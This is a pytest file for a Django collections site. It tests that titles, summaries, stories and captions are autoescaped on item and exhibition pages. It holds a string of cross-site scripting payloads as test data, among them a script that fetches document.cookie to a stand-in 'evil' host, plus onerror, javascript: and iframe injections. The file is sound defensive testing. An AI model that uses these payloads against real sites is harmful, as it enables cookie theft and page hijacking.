"""User text (titles, summaries, stories, captions, curator narrative) is shown as text: pages keep
no markup from it, so autoescaping is the one defence and no allow-list sanitiser is needed."""

import pytest
from django.urls import reverse

from tests.factories import ExhibitionEntryFactory, ExhibitionFactory, ItemFactory

pytestmark = pytest.mark.django_db

HOSTILE = (
    '<p onclick="steal()">My <strong>brother</strong> <script>fetch("//evil/"+document.cookie)</script>'
    '<img src=x onerror=alert(1)><a href="javascript:alert(1)">link</a>'
    '<a href="https://example.org/memorial">ok</a><iframe src="//evil"></iframe>'
    '<style>body{display:none}</style><svg><script>alert(2)</script></svg>'
    '<span style="position:fixed">x</span><!-- comment --></p>'
)
LIVE_MARKUP = ('<p onclick=', "<strong>brother", "<script>fetch", "<img src=x", 'href="javascript:',
               '<iframe src="//evil"', "<style>body", "<svg>", '<span style="position', "<!-- comment")


def _assert_escaped(html: str) -> None:
    for markup in LIVE_MARKUP:
        assert markup not in html
    assert "&lt;script&gt;fetch(" in html


def test_item_page_shows_hostile_text_as_text(client):
    item = ItemFactory(title={"en": f"Title {HOSTILE}"}, summary={"en": HOSTILE}, story={"en": HOSTILE})
    response = client.get(reverse("item-detail", args=[item.pk]))
    assert response.status_code == 200
    _assert_escaped(response.content.decode())


def test_exhibition_page_shows_hostile_text_as_text(client):
    exhibition = ExhibitionFactory(title={"en": "Hostile"}, summary={"en": HOSTILE}, introduction={"en": HOSTILE})
    ExhibitionEntryFactory(exhibition=exhibition, caption={"en": HOSTILE},
                           item=ItemFactory(title={"en": f"Entry {HOSTILE}"}))
    response = client.get(reverse("exhibition-detail", args=[exhibition.slug]))
    assert response.status_code == 200
    _assert_escaped(response.content.decode())
